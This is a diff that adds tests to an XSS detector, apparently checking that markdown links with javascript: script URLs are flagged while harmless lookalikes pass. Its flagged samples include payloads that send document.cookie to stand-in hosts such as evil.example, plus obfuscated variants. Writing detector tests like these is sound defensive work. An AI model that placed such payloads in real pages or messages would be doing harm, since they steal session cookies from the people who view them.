@@ -195,3 +195,23 @@ describe('xss: a split script scheme inside a text', () => {
     true,
   )
 })
+
+/** A markdown link to a script URL, whatever the script does: the destination after `](` or `]:`. */
+describe('xss: a markdown link to a script URL', () => {
+  flagsAndLeaves(
+    [
+      ["[x](javascript:location='//evil.example/'+document.cookie)", 'xss-script-url'],
+      ["[1]: javascript:open('//evil.example')", 'xss-script-url'],
+      ['[x](java\tscript:history.go(-1))', 'xss-script-url'],
+      ["[x](<javascript:new Image().src='//e.example/'+document.cookie>)", 'xss-script-url'],
+      ["click [here](JavaScript:this['alert'](1)) now", 'xss-script-url'],
+    ],
+    [
+      '[x](javascript:)',
+      '[js](https://javascript.info)',
+      'see [docs] javascript: rules',
+      '[JavaScript](https://example.org/js): the language',
+    ],
+    true,
+  )
+})
